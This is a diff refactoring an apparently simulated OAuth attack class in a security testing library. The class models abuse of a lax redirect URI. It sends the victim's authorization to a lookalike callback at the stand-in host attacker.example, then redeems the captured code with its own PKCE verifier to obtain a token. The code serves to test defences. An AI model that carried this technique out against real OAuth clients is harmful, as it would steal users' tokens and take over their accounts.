@@ -3,12 +3,19 @@
 from typing import ClassVar
 from urllib.parse import urlsplit
 
-from simlib.attacks.base import BROWSER, Inapplicable, OnFlows, Preparation, Thwarted, send
-from simlib.attacks.forms import asking, form, own_proof_key, parameters_of, redeem, won
+from simlib.attacks.base import BROWSER, FlowAttack, NotApplicable, Preparation, PreparationFailure, send
+from simlib.attacks.oauth_requests import (
+    build_authorization_request,
+    make_candidates,
+    make_form_request,
+    make_proof_key,
+    read_parameters,
+    redeem_code,
+)
 from simlib.scenario.effects import Context, Flow, Reply
 
 
-def lookalike(redirect_uri: str) -> str:
+def build_lookalike(redirect_uri: str) -> str:
     """An address at the attacker's host that begins like the client's."""
     parts = urlsplit(redirect_uri)
     if parts.netloc:
@@ -16,7 +23,7 @@ def lookalike(redirect_uri: str) -> str:
     return f"{parts.scheme}://attacker.example/callback"
 
 
-class LaxRedirectUri(OnFlows):
+class LaxRedirectUri(FlowAttack):
     """PKCE is no help: the attacker asks, so the attacker has the verifier."""
 
     name: ClassVar[str] = "lax_redirect_uri"
@@ -25,15 +32,17 @@ class LaxRedirectUri(OnFlows):
 
     def prepare(self, ctx: Context) -> Flow[Preparation]:
         """Have the victim sign in by the link, and redeem what arrives."""
-        if not self.loot.redirect_uri:
+        if not self.assets.redirect_uri:
             yield from ()
-            return Inapplicable("this client has no redirect URI")
-        own = lookalike(self.loot.redirect_uri)
-        verifier, challenge = own_proof_key(ctx)
-        answer = yield from send(BROWSER, form(step="authorize", **asking(self.loot, own, challenge)))
+            return NotApplicable("this client has no redirect URI")
+        own = build_lookalike(self.assets.redirect_uri)
+        verifier, challenge = make_proof_key(ctx)
+        answer = yield from send(
+            BROWSER, make_form_request(step="authorize", **build_authorization_request(self.assets, own, challenge))
+        )
         location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 200 else ""
-        code = parameters_of(location).get("code", "")
+        code = read_parameters(location).get("code", "")
         if not code:
-            return Thwarted()
-        redeemed = yield from redeem(self.loot, code, own, verifier)
-        return won(redeemed, "the token for the code")
+            return PreparationFailure()
+        redeemed = yield from redeem_code(self.assets, code, own, verifier)
+        return make_candidates(redeemed, "the token for the code")
